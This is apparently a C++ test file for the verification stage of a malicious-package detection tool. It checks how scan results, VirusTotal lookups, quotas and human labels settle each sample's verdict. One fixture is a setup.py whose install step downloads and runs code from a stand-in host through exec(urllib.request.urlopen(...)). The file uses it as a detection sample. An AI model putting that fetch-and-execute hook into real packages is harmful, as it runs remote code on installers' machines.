#include "collect/verify/verify.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>

#include "artifact/hash.h"
#include "collect/testing/loopback_server.h"
#include "collect/web_client.h"

namespace antivenom::collect {
namespace {

using namespace std::chrono_literals;
using testing::Ask;
using ::testing::Contains;
using ::testing::HasSubstr;
using testing::LoopbackServer;
using testing::Reply;
namespace fs = std::filesystem;

constexpr const char* kHarmful =
    "import urllib.request\nfrom setuptools import setup\n"
    "exec(urllib.request.urlopen('http://payload.example.com/x').read())\nsetup(name='demo', version='1.0')\n";
constexpr const char* kSensitive = "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 80))\n";
constexpr const char* kHarmless = "def add(a, b):\n    return a + b\n";

store::Check check(const std::string& name, const std::string& outcome) {
  return {"", name, outcome, {name + " says " + outcome}, "", 0};
}

std::string outcome(const std::string& syntax, const std::string& scan, const std::string& virus_total,
                    const std::string& label = "") {
  std::vector<store::Check> checks = {check("syntax", syntax), check("scan", scan)};
  if (!virus_total.empty()) checks.push_back(check("virustotal", virus_total));
  return outcome_of(checks, label).outcome;
}

TEST(Outcome, weighs_the_checks) {
  const std::string yes = "confirmed", no = "refuted", perhaps = "doubtful", unknown = "unknown";
  EXPECT_EQ(outcome(yes, yes, ""), yes);
  EXPECT_EQ(outcome(yes, yes, no), yes) << "engines miss most of them";
  EXPECT_EQ(outcome(unknown, yes, unknown), yes);
  EXPECT_EQ(outcome(yes, no, yes), yes) << "the study's two checks";
  EXPECT_EQ(outcome(yes, perhaps, yes), yes);
  EXPECT_EQ(outcome(no, no, yes), perhaps);
  EXPECT_EQ(outcome(unknown, unknown, yes), perhaps);
  EXPECT_EQ(outcome(no, no, ""), no);
  EXPECT_EQ(outcome(no, no, unknown), no);
  EXPECT_EQ(outcome(no, no, no), no);
  EXPECT_EQ(outcome(no, no, perhaps), perhaps);
  EXPECT_EQ(outcome(yes, no, no), perhaps);
  EXPECT_EQ(outcome(yes, perhaps, ""), perhaps);
  EXPECT_EQ(outcome(unknown, no, no), perhaps);
  EXPECT_EQ(outcome(no, no, "", "malicious"), yes);
  EXPECT_EQ(outcome(yes, yes, yes, "benign"), no);
  EXPECT_EQ(outcome(yes, yes, yes, "doubtful"), perhaps);
  EXPECT_THAT(outcome_of({check("syntax", yes), check("scan", no)}, "").reasons, Contains("VirusTotal was not asked"));
}

class VerifyTest : public ::testing::Test {
 protected:
  VerifyTest() {
    for (const char* name : {"http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"}) unsetenv(name);
    folder_ = fs::temp_directory_path() / ("antivenom-verify-" + std::to_string(::getpid()) + "-" +
                                           ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(folder_);
    fs::create_directories(folder_);
    store_.emplace(store::Store::open("sqlite://" + (folder_ / "a.db").string()).value());
    samples_.emplace(store::Samples::open((folder_ / "samples").string()).value());
    WebOptions web;
    web.tries = 1;
    web.idle_timeout = 1000ms;
    web_.emplace(web);
    server_.emplace([this](const Ask& ask) { return answer(ask); });
    options_.engine = "test";
    options_.threads = 2;
    options_.clock = [this] { return now_.load(); };
    options_.sleep = [this](std::chrono::milliseconds time) { return now_ += time.count(), true; };
    options_.virus_total.url = server_->url("/api/v3/");
  }
  ~VerifyTest() override { fs::remove_all(folder_); }

  std::string add(const std::string& name, const std::string& code) {
    const std::string bytes =
        store::packed({{name + "-1.0/setup.py", code}, {name + "-1.0/PKG-INFO", "Name: " + name + "\nVersion: 1.0\n"}})
            .value();
    const std::string sha256 = samples_->add(bytes)->sha256;
    store::Artifact artifact;
    artifact.sha256 = sha256;
    artifact.bytes = bytes.size();
    EXPECT_TRUE(store_->put(artifact));
    EXPECT_TRUE(store_->put(sha256, store::ArtifactName{{{{name}, "1.0"}, name + "-1.0.zip"}, "test"}));
    return sha256;
  }

  Reply answer(const Ask& ask) {
    const std::lock_guard lock(mutex_);
    asked_.push_back({now_, ask.path, ask.header("x-apikey")});
    if (trouble_ > 0) {
      --trouble_;
      return trouble_reply_;
    }
    const auto known = known_.find(ask.path.substr(8));
    if (known == known_.end()) return {404, R"({"error":{"code":"NotFoundError"}})", {}};
    return {
        200,
        R"({"data":{"attributes":{"last_analysis_stats":{"malicious":)" + std::to_string(known->second) +
            R"(,"undetected":60,"harmless":0,"suspicious":0},"popular_threat_classification":{"suggested_threat_label":"trojan.x"}}}})",
        {}};
  }

  VerifyReport run(const std::string& key = "") {
    options_.virus_total.key = key;
    auto report = verify(*store_, *samples_, *web_, options_);
    EXPECT_TRUE(report) << report.error().message();
    return report ? std::move(*report) : VerifyReport();
  }
  std::string outcome(const std::string& sha256) { return store_->artifact(sha256).value()->outcome; }
  std::vector<std::string> reasons(const std::string& sha256) { return store_->artifact(sha256).value()->reasons; }

  struct Asked {
    store::Time at;
    std::string path, key;
  };
  fs::path folder_;
  std::optional<store::Store> store_;
  std::optional<store::Samples> samples_;
  std::optional<WebClient> web_;
  VerifyOptions options_;
  std::atomic<store::Time> now_{1'700'000'000'000};
  std::mutex mutex_;
  std::map<std::string, int> known_;  // "files/<sha256>" -> engines
  std::vector<Asked> asked_;
  int trouble_ = 0;
  Reply trouble_reply_;
  std::optional<LoopbackServer> server_;  // ends before what it answers from
};

TEST_F(VerifyTest, works_without_a_key) {
  const std::string harmful = add("harmful", kHarmful), sensitive = add("sensitive", kSensitive),
                    harmless = add("harmless", kHarmless);
  const VerifyReport report = run();
  EXPECT_EQ(report.checked, 3u);
  EXPECT_EQ(report.changed, 3u);
  EXPECT_EQ(outcome(harmful), "confirmed");
  EXPECT_EQ(outcome(harmless), "refuted");
  EXPECT_THAT(reasons(harmful), Contains(HasSubstr("sensitive calls: exec, urllib.request.urlopen")));
  EXPECT_THAT(reasons(harmless), Contains("no sensitive call"));
  EXPECT_TRUE(store_->has_scan(harmful, "test").value());
  EXPECT_EQ(store_->checks(sensitive).value().size(), 2u);
  EXPECT_TRUE(asked_.empty());
  EXPECT_EQ(run().checked, 0u) << "done is done";
  options_.again = true;
  EXPECT_EQ(run().changed, 0u);
}

TEST_F(VerifyTest, asks_virustotal_by_hash_and_then_for_addresses) {
  const std::string sensitive = add("sensitive", kSensitive), harmful = add("harmful", kHarmful),
                    harmless = add("harmless", kHarmless);
  run();
  known_["files/" + sensitive] = 30;
  known_["domains/payload.example.com"] = 0;
  const VerifyReport report = run("secret");
  EXPECT_EQ(outcome(sensitive), "confirmed");
  EXPECT_THAT(reasons(sensitive), Contains("VirusTotal: 30 engines call it malicious"));
  EXPECT_EQ(outcome(harmless), "refuted");
  EXPECT_EQ(report.waiting, 0u);
  EXPECT_EQ(report.asked, asked_.size());
  for (const Asked& asked : asked_) EXPECT_EQ(asked.key, "secret");
  const auto check = store_->checks(sensitive).value();
  EXPECT_THAT(check.back().detail, HasSubstr("trojan.x"));
  EXPECT_EQ(run("secret").asked, 0u);
  // Answers are kept: asking again costs nothing.
  options_.again = true;
  const VerifyReport again = run("secret");
  EXPECT_EQ(again.asked, 0u);
  EXPECT_GE(again.cached, 3u);
}

TEST_F(VerifyTest, keeps_to_the_quota_over_several_runs) {
  for (int i = 0; i < 9; ++i) add("p" + std::to_string(i), std::string(kHarmless) + "x = " + std::to_string(i) + "\n");
  options_.virus_total.per_minute = 2;
  options_.virus_total.per_day = 5;
  const VerifyReport first = run("secret");
  EXPECT_EQ(first.asked, 5u);
  EXPECT_EQ(first.waiting, 4u);
  EXPECT_THAT(first.virus_total_error, HasSubstr("day's 5 requests"));
  for (size_t i = 2; i < asked_.size(); ++i) EXPECT_GE(asked_[i].at - asked_[i - 2].at, store::kMinute) << i;
  EXPECT_EQ(run("secret").asked, 0u);
  now_ += store::kDay;
  const VerifyReport last = run("secret");
  EXPECT_EQ(last.asked, 4u);
  EXPECT_EQ(last.waiting, 0u);
  EXPECT_EQ(asked_.size(), 9u);
}

TEST_F(VerifyTest, survives_errors_of_virustotal) {
  const std::string sample = add("sample", kSensitive);
  known_["files/" + sample] = 9;
  trouble_ = 1;
  trouble_reply_ = {429, "", {}};
  EXPECT_EQ(run("secret").virus_total_error, "");
  EXPECT_EQ(outcome(sample), "confirmed") << "asked again after a minute";

  const std::string refused = add("refused", std::string(kSensitive) + "\nx = 1\n");
  trouble_ = 1;
  trouble_reply_ = {401, "", {}};
  EXPECT_THAT(run("wrong").virus_total_error, HasSubstr("key is refused"));
  EXPECT_NE(outcome(refused), "") << "the other checks count";

  trouble_ = 3;
  trouble_reply_ = {200, "<html>not JSON</html>", {}};
  EXPECT_EQ(run("secret").waiting, 1u);
  now_ += 2 * store::kHour;
  trouble_ = 1;
  trouble_reply_ = {500, "", {}};
  EXPECT_EQ(run("secret").waiting, 0u);
}

TEST_F(VerifyTest, a_person_wins) {
  const std::string sample = add("sample", kHarmful);
  run();
  store::Label label;
  label.sha256 = sample;
  label.label = "benign";
  label.by = "somebody";
  label.at = now_;
  ASSERT_TRUE(store_->put(label));
  EXPECT_EQ(run().changed, 1u);
  EXPECT_EQ(outcome(sample), "refuted");
}

TEST_F(VerifyTest, a_lost_sample_is_told_and_the_others_go_on) {
  const std::string lost = add("lost", kHarmless), there = add("there", std::string(kHarmless) + "x = 1\n");
  ASSERT_TRUE(samples_->remove(lost));
  const VerifyReport report = run();
  ASSERT_EQ(report.failed.size(), 1u);
  EXPECT_EQ(report.failed[0].subject, lost);
  EXPECT_EQ(outcome(there), "refuted");
  EXPECT_EQ(outcome(lost), "");
  EXPECT_EQ(store_->failures(10)->size(), 1u);
}

TEST_F(VerifyTest, silence_proves_nothing_where_not_all_was_seen) {
  const std::string brings =
      add("brings",
          "from setuptools import setup\nsetup(name='brings', version='1.0', install_requires=['other-package'])\n");
  run();
  EXPECT_EQ(outcome(brings), "doubtful");
  EXPECT_THAT(reasons(brings), Contains("it brings in other packages"));
}

}  // namespace
}  // namespace antivenom::collect
